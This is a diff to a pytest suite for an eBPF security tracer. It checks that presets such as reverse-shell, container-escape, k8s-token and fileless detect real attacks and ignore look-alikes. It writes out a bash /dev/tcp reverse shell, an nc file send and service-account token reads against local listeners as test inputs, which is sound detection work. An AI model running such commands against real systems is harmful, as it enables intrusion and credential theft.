@@ -12,11 +12,8 @@ below therefore name the exact process or path that must not be reported,
 not just the test's tag."""
 import json
 import os
-import shlex
 import shutil
 import subprocess
-
-import pytest
 
 from conftest import BIN, Tracer, find, in_container, mark, run
 
@@ -63,6 +60,18 @@ def sh(cmd, timeout=30):
     return run(["sh", "-c", cmd], timeout=timeout)
 
 
+def ran(tr, tag):
+    """A look-alike's "not reported" only counts if it ran while the tracer
+    watched: an exec carrying its tag (exec events are always on)."""
+    assert find(tr.events(), "process_exec", text=tag), f"look-alike {tag} never ran"
+
+
+def ok(r):
+    """A look-alike's command must succeed (it did what it stands for)."""
+    assert r.returncode == 0, (r.args, r.returncode, r.stderr[-300:])
+    return r
+
+
 # --- every preset is listed, plans on this kernel, and names itself --------
 
 ALL = ["reverse-shell", "suspicious-commands", "sensitive-files", "container-escape",
@@ -88,34 +97,40 @@ def test_reverse_shell(tag):
     import threading
 
     def listen():
+        """Listening before it returns; what it saw lands in the dict."""
         s = socket.socket()
         s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
         s.bind(("127.0.0.1", 0))
         s.listen(1)
         s.settimeout(8)
+        seen = {"accepted": False, "received": b""}
 
         def serve():
             try:
                 c, _ = s.accept()
+                seen["accepted"] = True
                 c.settimeout(3)
                 c.sendall(b"exit\n")
-                while c.recv(4096):
-                    pass
+                while d := c.recv(4096):
+                    seen["received"] += d
             except OSError:
                 pass
             finally:
                 s.close()
         th = threading.Thread(target=serve, daemon=True)
         th.start()
-        return s.getsockname()[1], th
+        return s.getsockname()[1], th, seen
 
     with Tracer("-o", "json", "-P", "reverse-shell") as tr:
-        p1, t1 = listen()
+        p1, t1, s1 = listen()
         sh(f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{p1} 0>&1'", timeout=15)
         t1.join(5)
-        p2, t2 = listen()
-        sh(f"nc.traditional -q 1 127.0.0.1 {p2} < /etc/hostname", timeout=15)
+        p2, t2, s2 = listen()
+        ok(sh(f"nc.traditional -q 1 127.0.0.1 {p2} < /etc/hostname", timeout=15))
         t2.join(5)
+    assert s1["accepted"], "the reverse shell never connected"
+    # the look-alike must have happened: the listener got the file
+    assert s2["accepted"] and s2["received"] == open("/etc/hostname", "rb").read(), s2
     assert hits(tr, "reverse-shell", text=f'"dport": {p1}') or \
         hits(tr, "reverse-shell", text=str(p1)), "bash /dev/tcp not reported"
     assert not hits(tr, "reverse-shell", text=str(p2)), "nc < file reported"
@@ -130,8 +145,8 @@ def test_suspicious_commands_host_and_container(tag):
         in_container(f"/usr/bin/wget -q -T 1 http://127.0.0.1:9/{t_ct} || true")
         # look-alikes: a shell on the host (host list has no shells), a
         # plain program in a container
-        sh(f"/usr/bin/dash -c 'true {n_host}'")
-        in_container(f"/usr/bin/true {n_ct}; true")
+        ok(sh(f"/usr/bin/dash -c 'true {n_host}'"))
+        ok(in_container(f"/usr/bin/true {n_ct}"))
     # the executed file is the linux_binprm argument; the process is the
     # caller on fentry/LSM (before the exec) and the new image on the
     # equivalent (after it), so only the argument is asserted
@@ -141,6 +156,8 @@ def test_suspicious_commands_host_and_container(tag):
     c = hits(tr, "suspicious-commands", text=t_ct,
              pred=lambda b: "/usr/bin/wget" in args_text(b))
     assert c and is_host(c[0]) is False, "container wget not reported"
+    ran(tr, n_host)
+    ran(tr, n_ct)
     bad = hits(tr, "suspicious-commands", text=n_host)
     assert not bad, f"host shell reported: {brief(bad)}"
     bad = hits(tr, "suspicious-commands", text=n_ct,
@@ -183,6 +200,7 @@ def test_sensitive_files_scopes(tag):
     assert k and f"/run/secrets/kubernetes.io/serviceaccount/{c2}" in args_text(k[0]), \
         "container service-account file"
     for n in (n1, n2, n3):
+        ran(tr, n)
         bad = hits(tr, "sensitive-files", text=n)
         assert not bad, f"look-alike {n} reported: {brief(bad)}"
 
@@ -207,10 +225,16 @@ def test_container_escape(tag, tmp_path):
         in_container(fexec)
         # look-alikes: a mount on the host, reading notify_on_release, fd 1
         os.makedirs(f"/tmp/{nm}")
-        sh(f"mount -t tmpfs {nm} /tmp/{nm} && umount /tmp/{nm}; rmdir /tmp/{nm}")
-        in_container(f"mkdir -p /tmp/{nr} && echo 0 > /tmp/{nr}/x && cat /tmp/{nr}/notify_on_release "
-                     f"/tmp/{nr}/x >/dev/null 2>&1; rm -rf /tmp/{nr}")
-        in_container(f"echo {nf} > /proc/self/fd/1; true")
+        ok(sh(f"mount -t tmpfs {nm} /tmp/{nm} && umount /tmp/{nm} && rmdir /tmp/{nm}"))
+        # (the file is made by this host process: the container only reads it)
+        os.makedirs(f"/tmp/{nr}")
+        with open(f"/tmp/{nr}/notify_on_release", "w") as f:
+            f.write("0\n")
+        readback = ok(in_container(f"cat /tmp/{nr}/notify_on_release"))
+        shutil.rmtree(f"/tmp/{nr}")
+        wrote = ok(in_container(f"echo {nf} > /proc/self/fd/1"))
+    assert wrote.stdout.strip() == nf.encode(), wrote.stdout
+    assert readback.stdout == b"0\n", readback.stdout
     mt = hits(tr, "container-escape", pred=lambda b: b.get("function_name") == "security_sb_mount"
               and m in args_text(b) and proc(b).get("binary") == "/usr/bin/mount")
     assert mt and is_host(mt[0]) is False and "tmpfs" in args_text(mt[0]), "container mount"
@@ -221,6 +245,8 @@ def test_container_escape(tag, tmp_path):
     assert f, "/proc/self/fd/7 walk"
     x = hits(tr, "container-escape", text=ex, pred=lambda b: "execveat" in b.get("function_name", ""))
     assert x, "execveat AT_EMPTY_PATH in a container"
+    ran(tr, nm)
+    ran(tr, nr)
     bad = hits(tr, "container-escape", text=nm)
     assert not bad, f"host mount reported: {brief(bad)}"
     bad = hits(tr, "container-escape", pred=lambda b: nr in args_text(b))
@@ -250,13 +276,15 @@ def test_k8s_token(tag):
         in_container(sa_setup(t) + f" && cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; true")
         # look-alikes: ca.crt in a container; the token read by a host
         # process (own mount namespace, host pid namespace)
-        in_container(sa_setup(n1) + f" && cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt >/dev/null; true")
-        run(["unshare", "--mount", "sh", "-c",
-             sa_setup(n2) + " && cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null"])
+        ok(in_container(sa_setup(n1) + " && cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt"))
+        ok(run(["unshare", "--mount", "sh", "-c",
+                sa_setup(n2) + " && cat /var/run/secrets/kubernetes.io/serviceaccount/token"]))
     cat = lambda b: proc(b).get("binary") == "/usr/bin/cat"  # noqa: E731 (the setup's own writes match too)
     h = hits(tr, "k8s-token", text=t, pred=cat)
     assert h, "service-account token read in a container not reported"
     assert f"..{t}/token" in args_text(h[0]) and is_host(h[0]) is False, brief(h)
+    ran(tr, n1)
+    ran(tr, n2)
     bad = hits(tr, "k8s-token", text=n1, pred=cat)
     assert not bad, f"ca.crt reported: {brief(bad)}"
     bad = hits(tr, "k8s-token", text=n2)
@@ -266,8 +294,13 @@ def test_k8s_token(tag):
 # --- k8s-api -----------------------------------------------------------------
 
 def connect(host, port, tag):
+    """Prints 'connect E': 0 or 111 (refused) mean a SYN really went out."""
     return (f"{PY} -c \"import socket,sys; s=socket.socket(); s.settimeout(1)\n"
-            f"try: s.connect(('{host}', {port}))\nexcept OSError: pass\n# {tag}\"")
+            f"print('connect', s.connect_ex(('{host}', {port})))\n# {tag}\"")
+
+
+def connected(r):
+    assert r.returncode == 0 and r.stdout.split()[-1] in (b"0", b"111"), (r.stdout, r.stderr[-300:])
 
 
 def test_k8s_api(tag):
@@ -277,14 +310,15 @@ def test_k8s_api(tag):
         # the in-cluster API service: a ClusterIP on 443
         in_container("ip addr add 10.96.0.1/32 dev lo; " + connect("10.96.0.1", 443, t2))
         # look-alikes: 443 on a non-cluster address, another port, the host
-        in_container(connect("127.0.0.1", 443, n1))
-        in_container(connect("127.0.0.1", 8080, n2))
-        sh(connect("127.0.0.1", 6443, n3))
+        connected(in_container(connect("127.0.0.1", 443, n1)))
+        connected(in_container(connect("127.0.0.1", 8080, n2)))
+        connected(sh(connect("127.0.0.1", 6443, n3)))
     a = hits(tr, "k8s-api", text=t1)
     assert a and "6443" in args_text(a[0]) and is_host(a[0]) is False, "6443 from a container"
     b = hits(tr, "k8s-api", text=t2)
     assert b and "10.96.0.1" in args_text(b[0]), "ClusterIP:443 from a container"
     for n in (n1, n2, n3):
+        ran(tr, n)
         bad = hits(tr, "k8s-api", text=n)
         assert not bad, f"look-alike {n} reported: {brief(bad)}"
 
@@ -294,17 +328,21 @@ def test_k8s_api(tag):
 def test_docker_socket(tag):
     t1, t2, n1, n2 = mark("ds"), mark("dc"), mark("dn"), mark("dh")
     opath = (f"{PY} -c \"import os,socket; s=socket.socket(socket.AF_UNIX); s.bind('/run/docker.sock')\n"
-             f"try: os.open('/var/run/docker.sock', os.O_RDONLY)\nexcept OSError: pass\n# {{}}\"")
+             f"try: os.open('/var/run/docker.sock', os.O_RDONLY)\nexcept OSError as e: print('opened', e.errno)\n"
+             f"# {{}}\"")
     with Tracer("-o", "json", "-P", "docker-socket") as tr:
         in_container("mount -t tmpfs none /run && " + opath.format(t1))
         in_container(f"mkdir -p /tmp/{t2} && cp /usr/bin/true /tmp/{t2}/docker && /tmp/{t2}/docker; rm -rf /tmp/{t2}")
         # look-alikes: another socket in a container; the socket on the host
-        in_container("mount -t tmpfs none /run && " + opath.replace("docker.sock", "other.sock").format(n1))
-        run(["unshare", "--mount", "sh", "-c", "mount -t tmpfs none /run && " + opath.format(n2)])
+        looks = [in_container("mount -t tmpfs none /run && " + opath.replace("docker.sock", "other.sock").format(n1)),
+                 run(["unshare", "--mount", "sh", "-c", "mount -t tmpfs none /run && " + opath.format(n2)])]
+    for r in looks:  # the open was tried: a socket cannot be open()ed (ENXIO)
+        assert ok(r).stdout.strip() == b"opened 6", r.stdout
     a = hits(tr, "docker-socket", text=t1)
     assert a and "/run/docker.sock" in args_text(a[0]) and is_host(a[0]) is False, "docker.sock open"
     assert hits(tr, "docker-socket", text=t2, pred=lambda b: "/docker" in args_text(b)), "docker CLI"
     for n in (n1, n2):
+        ran(tr, n)
         bad = hits(tr, "docker-socket", text=n)
         assert not bad, f"look-alike {n} reported: {brief(bad)}"
 
@@ -325,6 +363,7 @@ def test_container_recon(tag):
     assert hits(tr, "container-recon", text=t2, pred=lambda b: "/.dockerenv" in args_text(b)), "ls /.dockerenv"
     assert hits(tr, "container-recon", text=t3, pred=lambda b: "/mountinfo" in args_text(b)), "mountinfo"
     for n in (n1, n2):
+        ran(tr, n)
         bad = hits(tr, "container-recon", text=n)
         assert not bad, f"look-alike {n} reported: {brief(bad)}"
 
@@ -338,13 +377,15 @@ def test_container_shell(tag):
         in_container(spawn.format(t) + "; true")
         # look-alikes: a shell started by a shell in a container; a
         # non-shell starting a shell on the host
-        in_container(f"sh -c 'sh -c \"true {n1}\"; true'; true")
-        sh(spawn.format(n2))
+        ok(in_container(f"sh -c 'sh -c \"true {n1}\"; true'"))
+        ok(sh(spawn.format(n2)))
     # the binary is the file executed: python3 shows as its symlink's target
     a = hits(tr, "container-shell", text=t, pred=lambda b: proc(b).get("binary") == os.path.realpath(PY))
     assert a and is_host(a[0]) is False and "/bin/sh" in args_text(a[0]), "python -> sh in a container"
     # the test container's own entry (unshare executing sh) is the documented
     # runtime false positive; nothing else may carry the look-alike's tag
+    ran(tr, n1)
+    ran(tr, n2)
     bad = hits(tr, "container-shell", text=n1,
                pred=lambda b: proc(b).get("binary") != "/usr/bin/unshare")
     assert not bad, f"sh -> sh reported: {brief(bad)}"
@@ -366,13 +407,14 @@ def test_fileless(tag):
         sh(MEMFD.format(how="fd", tag=t2))
         in_container(MEMFD.format(how="f'/proc/self/fd/{fd}'", tag=t3) + "; true")
         # look-alike: the same program executed from its file
-        sh(f"{PY} -c \"import os; os.execve('/usr/bin/true', ['true', '{n1}'], {{}})\"")
+        ok(sh(f"{PY} -c \"import os; os.execve('/usr/bin/true', ['true', '{n1}'], {{}})\""))
     a = hits(tr, "fileless", text=t1, pred=lambda b: b.get("function_name") == "security_bprm_check")
     assert a and is_host(a[0]) is True, "memfd exec through /proc/self/fd"
     assert hits(tr, "fileless", text=t1, pred=lambda b: "/proc/self/fd/" in args_text(b)), "execve /proc/self/fd"
     assert hits(tr, "fileless", text=t2, pred=lambda b: "execveat" in b.get("function_name", "")), "fexecve"
     c = hits(tr, "fileless", text=t3)
     assert c and is_host(c[0]) is False, "memfd exec in a container"
+    ran(tr, n1)
     bad = hits(tr, "fileless", text=n1)
     assert not bad, f"plain exec reported: {brief(bad)}"
 
@@ -391,5 +433,6 @@ def test_fifo(tag, tmp_path):
     assert a and proc(a[0]).get("binary") == "/usr/bin/mkfifo", brief(a)
     c = hits(tr, "fifo", text=t2)
     assert c and is_host(c[0]) is False, "mkfifo in a container"
+    ran(tr, n1)
     bad = hits(tr, "fifo", text=n1)
     assert not bad, f"mkfifo without a shell parent reported: {brief(bad)}"
